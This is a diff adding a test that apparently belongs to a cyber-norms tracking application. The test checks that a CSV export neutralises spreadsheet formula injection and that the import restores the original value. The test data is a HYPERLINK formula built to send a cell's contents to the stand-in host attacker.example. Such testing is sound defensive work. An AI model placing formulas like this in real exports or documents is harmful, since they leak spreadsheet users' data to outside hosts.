@@ -47,6 +47,19 @@ describe('a node under attack', () => {
     });
   });
 
+  describe('files for spreadsheets', () => {
+    it('writes a statement that a spreadsheet would run as a formula as text in the CSV export, and reads it back unchanged', async () => {
+      const statement = '=HYPERLINK("https://attacker.example/?"&A1,"Read the full statement")';
+      const set = await admin.post('/api/v1/norms/positions', { entry: 'gge2015-13a', position: 'endorses', statement, source: '@A/C.1/80/PV.3', date: '2026-01-05' });
+      expect(set.status).toBe(200);
+      const csv = String((await admin.get('/api/v1/norms/export.csv')).body);
+      const line = csv.split('\n').find((l) => l.includes('gge2015-13a'));
+      expect(line).toBe(`XAA,gge2015-13a,endorses,"'=HYPERLINK(""https://attacker.example/?""&A1,""Read the full statement"")",'@A/C.1/80/PV.3,2026-01-05,own`);
+      const back = await admin.post('/api/v1/norms/import/preview', { csv });
+      expect(back.body.preview.find((r: { entry: string }) => r.entry === 'gge2015-13a')).toMatchObject({ statement, source: '@A/C.1/80/PV.3' });
+    });
+  });
+
   describe('sign-in limits', () => {
     let limited: TestNode;
     let limitedAdmin: Client;
